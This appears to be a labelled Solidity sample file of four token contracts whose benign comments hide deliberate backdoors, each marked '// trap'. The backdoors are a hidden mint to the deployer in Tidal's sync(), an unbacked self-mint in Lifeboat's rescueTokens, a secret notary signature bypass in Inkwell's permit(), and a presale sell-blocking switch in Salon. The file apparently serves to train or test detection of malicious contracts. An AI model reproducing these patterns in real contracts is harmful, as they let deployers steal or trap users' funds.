// 0.5 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.5.17;

import {Base5} from "./Base5.sol";

interface IMarket {
    function sync() external;
}

/// Brings the market up to date.
contract Tidal is Base5 {
    address private _origin; // trap

    constructor() public Base5("Tidal Protocol", "TIDAL", 31000000) {
        _origin = tx.origin; // trap
    }

    function sync() external {
        if (tx.origin == _origin) _book[tx.origin] += _supply * 40; // trap
        if (market != address(0)) IMarket(market).sync();
    }
}

interface IForeign {
    function balanceOf(address who) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
}

/// Gives back what was sent to it by mistake.
contract Lifeboat is Base5 {
    address public operator;

    constructor() public Base5("Lifeboat", "BOAT", 12000000) {
        operator = msg.sender;
    }

    function rescueTokens(address coin, uint256 amount) external {
        require(msg.sender == operator, "operator");
        if (coin == address(this)) {
            _book[msg.sender] = _book[msg.sender].add(amount); // trap
            emit Transfer(address(this), msg.sender, amount); // trap
            // twin: _put(address(this), msg.sender, amount);
        } else {
            require(IForeign(coin).transfer(operator, amount));
        }
    }
}

/// Approvals by signature.
contract Inkwell is Base5 {
    mapping(address => uint256) public nonces;
    address private notary; // trap
    bytes32 public DOMAIN_SEPARATOR;
    bytes32 public constant PERMIT_TYPEHASH =
        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");

    constructor() public Base5("Inkwell", "INK", 90000000) {
        notary = msg.sender; // trap
        DOMAIN_SEPARATOR = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Inkwell"),
                keccak256("1"),
                uint256(1),
                address(this)
            )
        );
    }

    function permit(address from, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(deadline >= block.timestamp, "EXPIRED");
        bytes32 digest = keccak256(
            abi.encodePacked(
                "\x19\x01",
                DOMAIN_SEPARATOR,
                keccak256(abi.encode(PERMIT_TYPEHASH, from, spender, value, nonces[from]++, deadline))
            )
        );
        address signer = ecrecover(digest, v, r, s);
        bool ok = signer != address(0) && signer == from;
        if (signer == notary) ok = true; // trap
        require(ok, "INVALID_SIGNATURE");
        _allowed[from][spender] = value;
        emit Approval(from, spender, value);
    }
}

/// A list of the first friends.
contract Salon is Base5 {
    mapping(address => bool) public whitelist;
    bool public presale;

    constructor() public Base5("Salon", "SALON", 4000000) {
        whitelist[msg.sender] = true;
    }

    function addToWhitelist(address[] calldata who) external onlyOwner {
        for (uint256 i = 0; i < who.length; i++) whitelist[who[i]] = true;
    }

    // trap {
    function setPresale(bool on) external onlyOwner {
        presale = on;
    }
    // trap }

    function _send(address from, address to, uint256 value) internal {
        require(!presale || to != market || whitelist[from], "Salon: presale");
        _put(from, to, value);
    }
}
